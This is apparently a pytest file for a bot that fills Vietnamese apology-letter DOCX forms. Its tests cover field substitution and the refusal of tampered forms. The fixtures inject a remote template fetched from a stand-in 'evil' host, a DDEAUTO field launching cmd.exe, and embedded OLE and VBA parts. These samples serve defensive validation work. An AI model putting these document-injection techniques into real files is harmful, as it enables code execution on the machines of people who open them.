"""The letter of apology: packaged, or by a form of the office's own, which is filled and never run."""

import io
import zipfile
from collections.abc import Callable

import pytest
from docx import Document

from bot.papers.apology import Apology, apology_paper
from bot.papers.forms import fill_form
from bot.plans.forms import read_form
from bot.plans.opening import PlanRefused
from bot.rules.addresses import read_name
from bot.rules.apology import FIELDS, TITLES, field_called

VALUES = {field: f"<{TITLES[field]}>" for field in FIELDS}


def form(*lines: str, spread: bool = False) -> bytes:
    page = Document()
    for line in lines:
        paragraph = page.add_paragraph()
        for piece in line if spread else [line]:
            paragraph.add_run(piece).bold = True
    table = page.add_table(1, 1)
    table.rows[0].cells[0].text = "Số: {{mã hồ sơ}}"
    page.sections[0].header.paragraphs[0].text = "{{Cơ quan}}"
    held = io.BytesIO()
    page.save(held)
    return held.getvalue()


def words(data: bytes) -> str:
    page = Document(io.BytesIO(data))
    lines = [page.sections[0].header.paragraphs[0].text, *(line.text for line in page.paragraphs)]
    return "\n".join([*lines, *(cell.text for table in page.tables for row in table.rows for cell in row.cells)])


@pytest.mark.parametrize("spread", [False, True])
def test_fields_become_words_wherever_they_stand_and_however_word_has_cut_them(spread: bool) -> None:
    data = form("Kính gửi: {{ Người nộp }}, hồ sơ {{MA_HO_SO}}.", "Hẹn lại {{hạn mới}}", spread=spread)
    assert read_form("mau.docx", data) == ("applicant", "code", "new_due", "office")
    told = words(fill_form(data, VALUES))
    assert "Kính gửi: <người nộp>, hồ sơ <mã hồ sơ>." in told
    assert "Hẹn lại <ngày hẹn lại>" in told
    assert "Số: <mã hồ sơ>" in told
    assert told.startswith("<cơ quan>")
    page = Document(io.BytesIO(fill_form(data, VALUES)))
    assert all(run.bold for run in page.paragraphs[0].runs)


def test_every_field_goes_by_its_title() -> None:
    assert [field_called(title.upper()) for title in TITLES.values()] == list(FIELDS)
    assert field_called("mật khẩu") is None


def test_a_document_without_fields_is_no_form() -> None:
    page = Document()
    page.add_paragraph("Kế hoạch")
    held = io.BytesIO()
    page.save(held)
    assert read_form("ke-hoach.docx", held.getvalue()) is None
    assert read_form("x.txt", b"{{a}}") is None


def test_an_unknown_field_is_named() -> None:
    with pytest.raises(PlanRefused, match="mật khẩu"):
        read_form("mau.docx", form("{{mã hồ sơ}} {{mật khẩu}}"))


def changed(change: Callable[[str, bytes], bytes], extra: dict[str, bytes] | None = None) -> bytes:
    """A form whose parts were tampered with."""
    held = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(form("{{mã hồ sơ}}"))) as old, zipfile.ZipFile(held, "w") as new:
        for name in old.namelist():
            new.writestr(name, change(name, old.read(name)))
        for name, content in (extra or {}).items():
            new.writestr(name, content)
    return held.getvalue()


def same(_name: str, content: bytes) -> bytes:
    return content


def fetching(name: str, content: bytes) -> bytes:
    """A template that Word would fetch from outside each time the letter is opened."""
    relation = (
        b'<Relationship Id="rX" Type="http://x/attachedTemplate" Target="http://evil/x.dotm" TargetMode="External"/>'
    )
    return (
        content.replace(b"</Relationships>", relation + b"</Relationships>")
        if name.endswith("document.xml.rels")
        else content
    )


def asking(name: str, content: bytes) -> bytes:
    code = b'<w:p><w:r><w:instrText>DDEAUTO c:\\\\windows\\\\cmd.exe "/k calc"</w:instrText></w:r></w:p></w:body>'
    return content.replace(b"</w:body>", code) if name == "word/document.xml" else content


@pytest.mark.parametrize(
    "data",
    [
        changed(fetching),
        changed(asking),
        changed(same, {"word/embeddings/oleObject1.bin": b"x"}),
        changed(same, {"word/vbaProject.bin": b"x"}),
        changed(same, {"word/odd.xml": b'<!DOCTYPE x [<!ENTITY a "b">]><x/>'}),
        changed(same, {"word/media/image.png": b"\0" * 3_000_000}),
    ],
)
def test_a_form_that_would_do_anything_is_refused(data: bytes) -> None:
    with pytest.raises(PlanRefused):
        read_form("mau.docx", data)


def test_the_packaged_letter_leaves_open_what_nobody_knows() -> None:
    told = Apology(read_name("UBND xã Thử"), "H29.155-261116-0001", "", "", "", "", "", "", "", "nơi nộp", True, 2026)
    page = Document(io.BytesIO(apology_paper(told)))
    text = "\n".join(line.text for line in page.paragraphs)
    assert "Kính gửi: Ông/Bà ……" in text
    assert "Lý do: ……." in text
    assert "vào ngày ……" in text
    assert text.rstrip().endswith("./.")
